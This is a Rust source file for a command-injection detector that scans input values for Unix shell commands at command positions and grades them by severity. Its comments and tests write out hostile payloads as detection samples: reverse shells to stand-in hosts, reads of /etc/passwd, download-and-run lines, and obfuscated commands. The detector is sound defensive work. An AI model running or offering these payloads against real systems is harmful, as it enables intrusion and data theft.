//! Unix command injection: "command syntax in a data field". After undoing the shell's own
//! obfuscation (`shell_deobf`), the tokenizer walks the text for *command positions* — the start
//! of the value, or right after `;`, `|`, `||`, `&&`, `&`, a newline, `$(` or a backtick — and
//! asks whether a known command word stands there with arguments of the shape that command
//! takes (`cat` wants a path, `sleep` a number, `curl` a URL or host, `sh` a flag or a pipe into
//! it). English after a separator (`Tom & Jerry; cat lovers`) has no such arguments, which is
//! what keeps prose quiet without a list of payloads.
//!
//! Levels: a disguised command word (quotes inside it, `$IFS`, globs, `rev`, base64) counts at
//! level 1 — nobody types those by accident. A plain command after a separator counts at level 1
//! in a short value and at level 2 inside prose or long multi-line code (shell pasted in a chat
//! message). A value that merely *starts* with a command (`curl -X GET https://api...`, as API
//! consoles post) counts at level 1 only with a clear attack argument (a sensitive file, a
//! reverse shell, a download piped into a shell), otherwise at level 2.

use crate::prose::{is_long_or_prose, starts_script};
use crate::shell_commands::{lookup, Class, HOSTILE, SENSITIVE, WRAPPERS};
use crate::shell_deobf::deobfuscate;
use crate::shell_percent::percent_layer;
use crate::{Check, Finding, Input};

pub struct ShellUnix;

pub static SHELL_UNIX: ShellUnix = ShellUnix;

#[derive(Clone, Copy, PartialEq, Debug)]
enum Opener {
    Start,
    Sep,
    Pipe,
    Subst,
}

/// One command found at a command position.
#[derive(Clone, Copy, Debug)]
struct Candidate {
    opener: Opener,
    /// The command word or its first argument was produced by de-obfuscation.
    obfuscated: bool,
    /// A clear attack argument: sensitive path, reverse shell, download into a shell.
    strong: bool,
    /// An argument no pasted script needs either: credentials files, `/dev/tcp`, a reverse
    /// shell, a download piped into a shell. Prose around it does not lower its level.
    hostile: bool,
    /// The value is nothing but this bare, distinctive command.
    lone_distinct: bool,
}

impl Check for ShellUnix {
    fn detector(&self) -> &'static str {
        "command-injection"
    }

    fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
        let text = input.text.as_bytes();
        if text.len() < 2 {
            return None;
        }
        // A double-encoded payload arrives with `%0A`, `%20` still in it.
        let unescaped = if input.bytes.contains(b'%') { percent_layer(text) } else { None };
        let text = unescaped.as_deref().unwrap_or(text);
        // Unix commands are lower-case.
        if !text.iter().any(|b| b.is_ascii_lowercase()) {
            return None;
        }
        // A query value written with `+` for spaces and no real space: read `+` as a space.
        let spaced;
        let text = if text.contains(&b'+') && !text.contains(&b' ') {
            // ... except between digits (`$((20+58))`).
            spaced = (0..text.len())
                .map(|k| {
                    let digits = k > 0 && text[k - 1].is_ascii_digit() && text.get(k + 1).is_some_and(|c| c.is_ascii_digit());
                    if text[k] == b'+' && !digits {
                        b' '
                    } else {
                        text[k]
                    }
                })
                .collect::<Vec<u8>>();
            &spaced[..]
        } else {
            text
        };
        let bytes = if unescaped.is_some() { crate::ByteSet::of(std::str::from_utf8(text).unwrap_or("")) } else { input.bytes };
        // Without a separator, substitution or obfuscation byte, only a value that starts
        // with a command can matter.
        let obfuscation = bytes.any(b"'\"\\${?*[`|");
        if !obfuscation && !bytes.any(b";&\n\r") && !starts_with_command(text) {
            return None;
        }
        let candidates = if obfuscation {
            let d = deobfuscate(text);
            scan(&d.text, &d.marks)
        } else {
            scan(text, &[])
        };
        let long = !candidates.is_empty() && (is_long_or_prose(text) || starts_script(text));
        let command_param = !candidates.is_empty() && named_for_commands(input.name);
        let mut best: Option<Finding> = None;
        for c in candidates {
            let (reason, level) = grade(&c, long, command_param);
            if level <= input.sensitivity && best.is_none_or(|b| level < b.level) {
                best = Some(Finding { reason, score: 0.95, level });
            }
        }
        best
    }
}

/// A parameter whose name says it carries a command (`cmd`, `exec`, `command`): the web
/// shell's interface, where `cmd=id` or `cmd=ls -la` needs no separator in front.
fn named_for_commands(name: &str) -> bool {
    ["cmd", "command", "exec", "execute", "shell", "shell_exec", "system", "passthru", "run_cmd"]
        .iter()
        .any(|n| name.eq_ignore_ascii_case(n))
}

fn grade(c: &Candidate, long: bool, named_for_commands: bool) -> (&'static str, u8) {
    // In prose or long pasted code a command is usually being discussed, so it waits for
    // level 2 — but not a hostile one (credentials files, a reverse shell, a download into a
    // shell) after a separator: padding a payload with English words must not buy it a pass.
    let demote = long && !(c.hostile && c.opener != Opener::Start);
    if c.obfuscated {
        return ("command-injection:unix-obfuscated", if demote { 2 } else { 1 });
    }
    let reason = if c.opener == Opener::Subst { "command-injection:unix-substitution" } else { "command-injection:unix-command" };
    let level = match c.opener {
        Opener::Start if c.strong || c.lone_distinct || named_for_commands => 1,
        Opener::Start => 2,
        _ => 1,
    };
    (reason, if demote { level.max(2) } else { level })
}

fn starts_with_command(text: &[u8]) -> bool {
    let t = text.trim_ascii_start();
    let len = t.iter().take_while(|&&c| !c.is_ascii_whitespace()).count();
    let word = &t[..len];
    let base = word.rsplit(|&c| c == b'/').next().unwrap_or(word);
    lookup(base).is_some()
}

fn is_sep(b: u8) -> bool {
    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b')' | b'<' | b'>')
}

/// Every command position holding a known command with the right argument shape.
fn scan(t: &[u8], marks: &[bool]) -> Vec<Candidate> {
    let mut found = Vec::new();
    let n = t.len();
    let (mut i, mut opener, mut depth, mut in_backtick) = (0, Some(Opener::Start), 0usize, false);
    while i < n && found.len() < 8 {
        if let Some(op) = opener.take() {
            while i < n && matches!(t[i], b' ' | b'\t') {
                i += 1;
            }
            if i < n && (t[i] == b'(' || t[i] == b'{' && t.get(i + 1) == Some(&b' ')) {
                // A subshell or group: its first word is again in command position.
                opener = Some(op);
                i += 1;
                continue;
            }
            if let Some((c, end)) = command_at(t, marks, i, op, depth > 0) {
                found.push(c);
                i = end;
            }
            continue;
        }
        match t[i] {
            b';' | b'\n' | b'\r' => opener = Some(Opener::Sep),
            b'&' => {
                if t.get(i + 1) == Some(&b'&') {
                    i += 1;
                }
                // `2>&1`, `>&` are redirections, not separators.
                if i == 0 || t[i - 1] != b'>' {
                    opener = Some(Opener::Sep);
                }
            }
            b'|' => {
                opener = Some(if t.get(i + 1) == Some(&b'|') {
                    i += 1;
                    Opener::Sep
                } else {
                    Opener::Pipe
                });
            }
            b'`' => {
                in_backtick = !in_backtick;
                if in_backtick {
                    opener = Some(Opener::Subst);
                }
            }
            b'$' if t.get(i + 1) == Some(&b'(') && t.get(i + 2) != Some(&b'(') => {
                opener = Some(Opener::Subst);
                i += 1;
            }
            b'(' if exec_call(t, i) => opener = Some(Opener::Subst),
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            _ => {}
        }
        i += 1;
    }
    found
}

/// Functions whose string argument is a shell command line (PHP, Python, Node, Perl, Ruby).
const EXEC_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "eval",
    "execSync",
    "spawnSync",
    "check_output",
    "getoutput",
    "pcntl_exec",
];

/// `(` right after an exec-style function name: what follows is a command line.
fn exec_call(t: &[u8], open: usize) -> bool {
    let start = open.saturating_sub(16);
    let before = &t[start..open];
    let len = before.iter().rev().take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_').count();
    let name = &before[before.len() - len..];
    EXEC_FUNCTIONS.iter().any(|f| f.as_bytes() == name)
}

fn word_end(t: &[u8], i: usize) -> usize {
    i + t[i..].iter().take(256).take_while(|&&c| !c.is_ascii_whitespace() && !is_sep(c)).count()
}

/// The command at `i` (a command position), and where scanning goes on.
fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: bool) -> Option<(Candidate, usize)> {
    let n = t.len();
    let mut end = word_end(t, i);
    // Skip wrappers and `NAME=value` assignments in front of the command.
    for _ in 0..3 {
        let w = &t[i..end];
        let assignment =
            w.iter().position(|&c| c == b'=').is_some_and(|p| p > 0 && w[..p].iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_'));
        let wrapper = WRAPPERS.iter().any(|x| x.as_bytes() == w);
        if !(assignment || wrapper) || end >= n || !matches!(t[end], b' ' | b'\t') {
            break;
        }
        i = end + 1 + t[end + 1..].iter().take_while(|&&c| c == b' ').count();
        end = word_end(t, i);
        // A wrapper's own flags come before the command it runs (`xargs -I{} sh -c id`,
        // `nohup -- id`): at most two, each a single word.
        for _ in 0..2 {
            if !wrapper || t.get(i) != Some(&b'-') || end >= n || !matches!(t[end], b' ' | b'\t') {
                break;
            }
            i = end + 1 + t[end + 1..].iter().take_while(|&&c| c == b' ').count();
            end = word_end(t, i);
        }
    }
    let word = &t[i..end];
    let word = trim_tail(word);
    if word.is_empty() {
        return None;
    }
    // An absolute path to a binary is a probe by itself (`/bin/printenv`, `/usr/bin/id`), but
    // only from a binaries folder: `/api/v1/env` and `/projects/42/env` are REST paths.
    let (base, absolute) = match word.iter().rposition(|&c| c == b'/') {
        Some(p) if word[0] == b'/' && p > 0 => (&word[p + 1..], in_binaries_folder(&word[..p])),
        Some(_) => return None,
        None => (word, false),
    };
    // Windows ports of the same tools (`& curl.exe -o x.exe http://…`) run the same way.
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    let (class, distinct) = lookup(base)?;

    // Arguments up to the next separator.
    let mut args: Vec<(usize, usize)> = Vec::new();
    let mut j = end;
    let mut redirect = false;
    while j < n && args.len() < 8 {
        match t[j] {
            b' ' | b'\t' => j += 1,
            b'>' | b'<' => {
                redirect = true;
                j += 1;
            }
            c if is_sep(c) => break,
            // A comment ends the command.
            b'#' => {
                while j < n && !matches!(t[j], b'\n' | b'\r') {
                    j += 1;
                }
                break;
            }
            _ => {
                let e = word_end(t, j);
                args.push((j, e));
                j = e;
            }
        }
    }
    let seg_end = j;
    let piped_to_shell = t.get(seg_end) == Some(&b'|') && {
        let rest = &t[seg_end + 1..];
        let rest = rest.trim_ascii_start();
        let w = &rest[..word_end(rest, 0)];
        let b = w.rsplit(|&c| c == b'/').next().unwrap_or(w);
        matches!(lookup(b), Some((Class::Shell, _)))
    };
    let arg = |k: usize| -> &[u8] { args.get(k).map_or(&b""[..], |&(s, e)| &t[s..e]) };
    let shapes: Vec<Shape> = (0..args.len()).map(|k| shape(arg(k))).collect();
    let plain = shapes.iter().filter(|&&s| s == Shape::Plain).count();
    let any = |want: &[Shape]| shapes.iter().any(|s| want.contains(s));
    let sensitive = args.iter().any(|&(s, e)| SENSITIVE.iter().any(|p| contains(&t[s..e], p.as_bytes())));

    let shaped = match class {
        // `getent passwd`: the account databases are getent's only plain-word arguments.
        Class::Recon if base == b"getent" => matches!(arg(0), b"passwd" | b"shadow" | b"group" | b"hosts" | b"ahosts" | b"gshadow"),
        // `ps aux`, `ps ef`: BSD-style options are bare letters.
        Class::Recon if base == b"ps" && !args.is_empty() => args.iter().all(|&(s, e)| t[s..e].iter().all(|c| b"auxefwjl-".contains(c))),
        Class::Recon => plain == 0 && !(args.is_empty() && in_paren),
        // `crontab -l` lists and `-r` deletes the user's jobs: a flag alone is the command.
        Class::File if base == b"crontab" => matches!(arg(0), b"-l" | b"-r" | b"-e") || any(&[Shape::Path, Shape::File, Shape::Var]),
        // `awk 'BEGIN{system("id")}'`: awk's own program runs a command.
        Class::File if base == b"awk" && args.iter().any(|&(s, e)| contains(&t[s..e], b"system(") || contains(&t[s..e], b"|getline")) => {
            true
        }
        Class::File => plain <= 1 && any(&[Shape::Path, Shape::File, Shape::Var]) || redirect && plain == 0,
        // `openssl s_client -connect host:port` carries a TLS reverse shell; its subcommand is a plain word.
        Class::Net if base == b"openssl" => arg(0) == b"s_client" && plain == 1 && any(&[Shape::Host, Shape::Url, Shape::Flag]),
        Class::Net => plain == 0 && any(&[Shape::Url, Shape::Host, Shape::Flag, Shape::Number, Shape::Var]),
        Class::Shell => {
            args.is_empty() && opener == Opener::Pipe
                || matches!(shapes.first(), Some(Shape::Flag | Shape::Path | Shape::File))
                || redirect && plain == 0
                // A here-string feeds the shell its command: `sh<<<id`.
                || t[end..].starts_with(b"<<<")
        }
        Class::Delay => matches!(shapes.first(), Some(Shape::Number)) && args.len() <= 2,
        Class::Echo => {
            !args.is_empty()
                && (redirect
                    || piped_to_shell
                    || any(&[Shape::Var, Shape::Flag, Shape::Caps])
                    || args.iter().any(|&(s, e)| t[s..e].contains(&b'$')))
        }
    };
    let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
        || class == Class::Net && args.iter().any(|&(s, e)| matches!(&t[s..e], b"-e" | b"-c") || socat_exec(&t[s..e]))
        || class == Class::Shell && arg(0) == b"-i";
    let first_arg_end = args.first().map_or(end, |a| a.1);
    let obfuscated = marks.get(i..first_arg_end.min(marks.len())).is_some_and(|m| m.iter().any(|&x| x));
    // A disguised `echo` or absolute binary path needs no argument shape (`echo$IFS$9XYZ//`,
    // `/bin$u/bash$u <ip>` are probes); other commands keep theirs, so a brace list such as `{id,name}` stays a field list.
    // A reverse shell needs no other argument shape: `nc -e /bin/sh host 4444/view` in a path
    // segment still runs.
    if !(shaped || reverse_shell || obfuscated && (class == Class::Echo || absolute) && args.len() <= 3) {
        return None;
    }
    let interp_code = class == Class::Shell && matches!(arg(0), b"-c" | b"-e" | b"-r");
    let strong = sensitive || reverse_shell || interp_code || piped_to_shell || absolute;
    let hostile = reverse_shell || piped_to_shell || args.iter().any(|&(s, e)| HOSTILE.iter().any(|p| contains(&t[s..e], p.as_bytes())));
    let whole_value = seg_end >= n && t[..i].iter().all(|c| c.is_ascii_whitespace());
    let lone_distinct = distinct && whole_value && plain == 0;
    Some((Candidate { opener, obfuscated, strong, hostile, lone_distinct }, end.max(i + 1)))
}

/// `dir` (an absolute folder) has a `bin`, `sbin` or `xbin` segment: `/bin`, `/usr/local/sbin`,
/// `/system/xbin`, `/opt/app/bin`.
fn in_binaries_folder(dir: &[u8]) -> bool {
    dir.split(|&c| c == b'/').any(|segment| matches!(segment, b"bin" | b"sbin" | b"xbin"))
}

/// A socat address that runs a program (`exec:/bin/sh`, `SYSTEM:id`): the network tool
/// becomes a shell bound to the connection.
fn socat_exec(a: &[u8]) -> bool {
    let a = trim_tail(a);
    [&b"exec:"[..], b"system:"].iter().any(|p| a.len() >= p.len() && a[..p.len()].eq_ignore_ascii_case(p))
}

#[derive(Clone, Copy, PartialEq, Debug)]
enum Shape {
    Flag,
    Path,
    File,
    Url,
    Host,
    Number,
    Var,
    Caps,
    Plain,
}

const FILE_EXTENSIONS: &[&str] = &[
    "txt", "php", "sh", "py", "pl", "conf", "cnf", "ini", "log", "db", "htaccess", "htpasswd", "bak", "jsp", "asp", "aspx", "cgi", "xml",
    "json", "sql", "key", "pem",
];

/// A word without the quote or `#` that closes an injected value (`org#`, `passwd'`).
fn trim_tail(w: &[u8]) -> &[u8] {
    let keep = w.len() - w.iter().rev().take_while(|&&c| matches!(c, b'#' | b'\'' | b'"')).count();
    &w[..keep]
}

fn shape(a: &[u8]) -> Shape {
    let a = trim_tail(a);
    let Some(&first) = a.first() else { return Shape::Plain };
    if first == b'-' && a.get(1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-') {
        return Shape::Flag;
    }
    if first == b'/' || a.starts_with(b"./") || a.starts_with(b"../") || first == b'~' {
        return Shape::Path;
    }
    if first == b'$' {
        return Shape::Var;
    }
    if contains(a, b"://") {
        return Shape::Url;
    }
    if a.iter().all(|c| c.is_ascii_digit()) {
        return Shape::Number;
    }
    // `host/path` without a scheme, as wget and curl take it.
    if let Some(slash) = a.iter().position(|&c| c == b'/') {
        if slash > 0 && matches!(shape(&a[..slash]), Shape::Host) {
            return Shape::Url;
        }
    }
    if a.iter().all(|&c| c.is_ascii_digit() || c == b'.' || c == b':') && a.iter().filter(|&&c| c == b'.').count() == 3 {
        return Shape::Host;
    }
    let hosty = a.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b':'));
    if let Some(dot) = a.iter().rposition(|&c| c == b'.') {
        let ext = &a[dot + 1..];
        if dot > 0 && FILE_EXTENSIONS.iter().any(|e| e.as_bytes() == ext) {
            return Shape::File;
        }
        if hosty && a[0].is_ascii_alphanumeric() && ext.len() >= 2 && a.iter().filter(|&&c| c == b'.').count() >= 1 && dot + 1 < a.len() {
            return Shape::Host;
        }
    }
    if a.len() >= 4 && a.iter().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || *c == b'_') {
        return Shape::Caps;
    }
    Shape::Plain
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    needle.len() <= hay.len() && hay.windows(needle.len()).any(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn level(s: &str) -> Option<u8> {
        let mut input = Input::new(s);
        input.sensitivity = 4;
        SHELL_UNIX.inspect(&input).map(|f| f.level)
    }

    #[test]
    fn commands_and_prose() {
        for s in [
            "/files/| nc -e /bin/sh evil.example 4444/view",
            "; id",
            "| cat /etc/passwd",
            "$(whoami)",
            "`id`",
            "&& curl http://x/s.sh|sh",
            ";sleep 5;",
            "a;c'a't /etc/passwd",
            "/???/??t /???/p??s??",
            "echo aWQ= | base64 -d | sh",
            "x|nc -e /bin/sh 10.0.0.1 4444",
            "x;socat tcp:10.0.0.5:4444 exec:/bin/sh",
        ] {
            assert_eq!(level(s), Some(1), "{s}");
        }
        for s in [
            "Tom & Jerry; cat lovers",
            "ls -la output explained",
            "report.txt",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0; U; id) Presto/2.4.15",
        ] {
            assert_eq!(level(s), None, "{s}");
        }
        assert_ne!(level("curl -X GET -H \"Authorization: Bearer $TOKEN\" \"https://api.example.com/v2/x\""), Some(1));
    }

    /// Red-team pass 3: a wrapper's flags before the command, `getent` with an account
    /// database, `crontab -l`; a command parameter's value needs no separator.
    #[test]
    fn wrapper_flags_getent_crontab_and_command_parameters() {
        for s in ["| xargs -I{} sh -c id", ";getent passwd", ";crontab -l", "x; nohup -- id"] {
            assert_eq!(level(s), Some(1), "{s}");
        }
        for s in ["xargs -n 1 echo", "getent", "a; getent foo", "crontab guide"] {
            assert_ne!(level(s), Some(1), "{s}");
        }
        let at = |name: &str, value: &str| {
            let mut input = Input::new(value);
            input.name = name;
            SHELL_UNIX.inspect(&input).map(|f| f.level)
        };
        assert_eq!(at("cmd", "id"), Some(1));
        assert_eq!(at("exec", "ls -la"), Some(1));
        assert_eq!(at("q", "id"), None);
        assert_eq!(at("cmd", "save"), None);
    }

    /// Red-team pass 4: the other wrappers that run their argument (`coproc`, `builtin eval`,
    /// `env`), a here-string into a shell, `ps aux`, the Windows ports of curl and wget, and
    /// case changes of an empty variable glued to the command.
    #[test]
    fn more_wrappers_here_strings_and_exe_ports() {
        for s in [
            ";coproc bash -i >&/dev/tcp/203.0.113.9/4444 0>&1",
            ";builtin eval 'nc 203.0.113.9 4444 -e sh'",
            ";env id",
            ";coproc id",
            ";sh<<<id",
            ";ps aux",
            "& curl.exe -o x.exe http://203.0.113.9/x.exe",
            "& wget.exe http://203.0.113.9/x.exe -O x.exe",
            ";${x,,}id",
            ";${@~}id",
        ] {
            assert_eq!(level(s), Some(1), "{s}");
        }
        for s in ["env vars", "a; env staging please", "ps and qs", "the coproc keyword", "a; ps: thanks", "curl.exe"] {
            assert_ne!(level(s), Some(1), "{s}");
        }
    }

    /// An absolute path is a binary only from a binaries folder: REST paths end in `env` or `id`.
    #[test]
    fn absolute_binary_paths() {
        for s in ["/bin/printenv", "/usr/bin/id", "/usr/local/sbin/ifconfig", "/system/xbin/env"] {
            assert_eq!(level(s), Some(1), "{s}");
        }
        for s in ["/api/v1/env", "/projects/42/env", "/users/me/id", "/cgi-bin/env"] {
            assert_ne!(level(s), Some(1), "{s}");
        }
    }

    /// English padding around a hostile command does not lower its level (an attacker who
    /// reads this file would otherwise add four function words); a GraphQL document's field
    /// lines are not commands.
    #[test]
    fn prose_padding_is_no_pass() {
        assert_eq!(level("please can you tell me what is the weather like; cat /etc/passwd"), Some(1));
        assert_eq!(level("the a to of and is it 8.8.8.8 && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some(1));
        assert_ne!(level("{\n  id\n  firstName\n  lastName\n}"), Some(1));
    }
}
